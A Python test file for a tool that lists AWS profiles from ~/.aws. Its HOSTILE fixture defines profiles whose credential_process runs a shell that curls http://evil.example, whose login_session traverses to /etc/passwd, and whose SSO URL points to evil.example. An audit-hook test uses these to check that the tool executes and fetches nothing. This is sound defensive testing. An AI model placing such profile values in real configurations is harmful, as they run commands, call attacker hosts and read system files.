"""Profiles found in ~/.aws."""

import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as limits
from hypothesis import strategies as st

from snapshot_importer.accounts.shared import SharedProfiles, Surprise, shared_profiles
from snapshot_importer.accounts.shared_settings import read_shared
from snapshot_importer.accounts.shared_sources import shared_source
from snapshot_importer.accounts.sources import SsoSession

CONFIG = """
[default]
region = eu-central-1

[profile keys]
region = eu-west-1

[profile "with space"]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = geheim

[profile session]
aws_access_key_id = ASIAIOSFODNN7EXAMPLE
aws_secret_access_key = geheim
aws_session_token = token

[profile role]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = keys

[profile chained]
role_arn = arn:aws:iam::111122223333:role/Other
source_profile = role

[profile mfa]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = keys
mfa_serial = arn:aws:iam::111122223333:mfa/me

[profile "behind mfa"]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = mfa

[profile loop]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = pool

[profile pool]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = loop

[profile self]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = self

[profile lost]
role_arn = arn:aws:iam::111122223333:role/Operator
source_profile = gone

[profile inside]
role_arn = arn:aws:iam::111122223333:role/Operator
credential_source = Ec2InstanceMetadata

[profile sso]
sso_session = corp
sso_account_id = 111122223333
sso_role_name = Reader

[sso-session corp]
sso_start_url = https://corp.example
sso_region = eu-central-1

[profile program]
credential_process = touch /tmp/never

[profile login]
login_session = arn:aws:iam::111122223333:user/me

[profile web]
role_arn = arn:aws:iam::111122223333:role/Operator
web_identity_token_file = /tmp/token

[nobody]
region = us-east-1
"""
CREDENTIALS = """
[keys]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = geheim

[self]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = geheim
"""

ODD = """
[profile odd]
endpoint_url = http://evil.example
ca_bundle = /tmp/ca.pem
services = others
credential_process = run --password geheim
web_identity_token_file = /tmp/token

[profile plain]
region = eu-central-1

[services others]
s3 =
  endpoint_url = http://evil.example/s3
  more = 1
"""
HOSTILE = """
[profile evil]
credential_process = sh -c 'touch /tmp/never; curl http://evil.example'
[profile evil-web]
role_arn = arn:aws:iam::111122223333:role/Operator
web_identity_token_file = /dev/stdin
[profile evil-login]
login_session = ../../../../etc/passwd
[profile evil-imds]
role_arn = arn:aws:iam::111122223333:role/Operator
credential_source = Ec2InstanceMetadata
[profile evil-sso]
sso_account_id = 111122223333
sso_role_name = Reader
sso_start_url = https://evil.example
sso_region = eu-central-1
"""
DEEDS = ("subprocess", "os", "socket", "http", "urllib", "webbrowser", "open", "shutil")  # audit events
NO_CREDENTIALS = {"AWS_SHARED_CREDENTIALS_FILE": "/none"}

Reader = Callable[[str, str], SharedProfiles]


@pytest.fixture
def read(tmp_path: Path) -> Reader:
    def write_and_read(config: str, credentials: str) -> SharedProfiles:
        (tmp_path / "config").write_text(config)
        (tmp_path / "credentials").write_text(credentials)
        return shared_profiles(
            {
                "AWS_CONFIG_FILE": str(tmp_path / "config"),
                "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "credentials"),
            }
        )

    return write_and_read


def test_every_kind_of_profile_is_named_in_words(read: Reader) -> None:
    found = {profile.name: profile.kind for profile in read(CONFIG, CREDENTIALS).profiles}

    assert found == {
        "default": "No credentials",
        "keys": "Access key",
        "with space": "Access key",
        "session": "Session keys",
        "role": "Role",
        "chained": "Role",
        "mfa": "Role",
        "behind mfa": "Role",
        "loop": "Role",
        "pool": "Role",
        "self": "Role",
        "lost": "Role",
        "inside": "Role",
        "sso": "IAM Identity Center",
        "program": "Program",
        "login": "AWS sign-in",
        "web": "Web identity",
    }


def test_what_cannot_be_used_says_why(read: Reader) -> None:
    reasons = {p.name: p.unusable for p in read(CONFIG, CREDENTIALS).profiles if p.unusable}

    assert reasons == {
        "default": "The profile default holds no credentials.",
        "loop": "The profile loop is its own source.",
        "pool": "The profile pool is its own source.",
        "lost": "The profile lost takes its keys from the profile gone, which is not in ~/.aws.",
        "inside": "The profile inside takes its keys from inside AWS, which works only there.",
    }


def test_a_region_of_one_file_and_keys_of_the_other_make_one_profile(read: Reader) -> None:
    (keys,) = [profile for profile in read(CONFIG, CREDENTIALS).profiles if profile.name == "keys"]

    assert (keys.kind, keys.region) == ("Access key", "eu-west-1")


@pytest.mark.parametrize(
    ("environment", "region"),
    [
        ({}, ""),
        ({"AWS_DEFAULT_REGION": "us-west-1"}, "us-west-1"),
        ({"AWS_REGION": "us-west-2", "AWS_DEFAULT_REGION": "us-west-1"}, "us-west-2"),
    ],
    ids=["none", "default", "both"],
)
def test_a_profile_without_a_region_has_that_of_the_environment(
    read: Reader, tmp_path: Path, environment: dict[str, str], region: str
) -> None:
    read("[profile a]\n[profile b]\nregion = eu-west-1\n", "")

    found = shared_profiles(environment | {"AWS_CONFIG_FILE": str(tmp_path / "config")} | NO_CREDENTIALS)

    assert [profile.region for profile in found.profiles] == [region, "eu-west-1"]


def test_what_is_odd_about_a_profile_is_listed(read: Reader) -> None:
    (odd, plain) = read(ODD, "").profiles

    assert plain.surprising == ()
    assert odd.surprising == (
        Surprise("endpoint_url", "http://evil.example"),
        Surprise("ca_bundle", "/tmp/ca.pem"),
        Surprise("services", "others"),
        Surprise("credential_process", "run --password geheim"),
        Surprise("web_identity_token_file", "/tmp/token"),
        Surprise("services: s3", "endpoint_url = http://evil.example/s3, more = 1"),
    )
    assert "geheim" not in repr(odd)


def test_sessions_of_identity_center_are_listed_if_they_can_be_used(read: Reader) -> None:
    found = read(CONFIG + "[sso-session half]\nsso_region = eu-central-1\n", "")

    assert found.sso_sessions == (SsoSession("https://corp.example", "eu-central-1", "corp"),)


def test_listing_runs_opens_and_asks_nothing(read: Reader, tmp_path: Path) -> None:
    read(CONFIG + HOSTILE, CREDENTIALS)
    paths = {
        "AWS_CONFIG_FILE": str(tmp_path / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "credentials"),
    }
    events: list[str] = []
    armed = [True]

    def notice(event: str, arguments: tuple[object, ...]) -> None:
        if armed and event.partition(".")[0] in DEEDS:
            events.append(f"{event} {arguments[0] if arguments else ''}")

    sys.addaudithook(notice)  # for the rest of the process, where it is deaf
    try:
        shared_profiles(paths)
    finally:
        armed.clear()

    assert events == [f"open {path}" for path in paths.values()]


def test_no_files_are_no_profiles() -> None:
    found = shared_profiles({"AWS_CONFIG_FILE": "/none", "AWS_SHARED_CREDENTIALS_FILE": "/none"})

    assert found == SharedProfiles(())


NAMES = st.sampled_from(["a", "b", "default", "a b", "é", ""])
VALUES = st.sampled_from(
    [
        "a",
        "b",
        "",
        "arn:aws:iam::111122223333:role/Operator",
        "arn:aws:iam::1:role/x",
        "https://corp.example",
        "eu-central-1",
        "111122223333",
        "900",
        "1e9",
        "Environment",
        "EcsContainer",
        "\n  nested = 1",
    ]
)
SETTINGS = st.sampled_from(
    [
        "aws_access_key_id",
        "role_arn",
        "source_profile",
        "credential_source",
        "mfa_serial",
        "external_id",
        "duration_seconds",
        "role_session_name",
        "sso_session",
        "sso_account_id",
        "sso_role_name",
        "sso_start_url",
        "sso_region",
        "sso_registration_scopes",
        "login_session",
        "credential_process",
        "web_identity_token_file",
        "region",
        "services",
    ]
)
KIND = st.sampled_from(['profile "', 'sso-session "', 'services "', ""])
HEAD = st.builds(lambda kind, name: f"[{kind}{name}{chr(34) if kind else ''}]", KIND, NAMES)
SECRET = st.sampled_from(["aws_secret_access_key = geheim", "aws_session_token = geheim"])
LINE = st.one_of(HEAD, SECRET, st.builds("{} = {}".format, SETTINGS, VALUES), st.text(max_size=20))
FILE = st.one_of(
    st.lists(LINE, max_size=30).map(lambda lines: "\n".join(lines).encode()), st.binary(max_size=200)
)


@given(config=FILE, credentials=FILE)
@limits(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_no_file_is_too_broken_to_be_listed(tmp_path: Path, config: bytes, credentials: bytes) -> None:
    (tmp_path / "config").write_bytes(config)
    (tmp_path / "credentials").write_bytes(credentials)
    environment = {
        "AWS_CONFIG_FILE": str(tmp_path / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "credentials"),
        "AWS_ACCESS_KEY_ID": "AKIA",
    }

    found = shared_profiles(environment)

    told = [*found.notices, *(profile.unusable for profile in found.profiles), repr(found)]
    assert "geheim" not in " ".join(told)
    settings = read_shared(environment)
    usable = [profile.name for profile in found.profiles if not profile.unusable]
    assert "geheim" not in repr([shared_source(name, settings, environment) for name in usable])
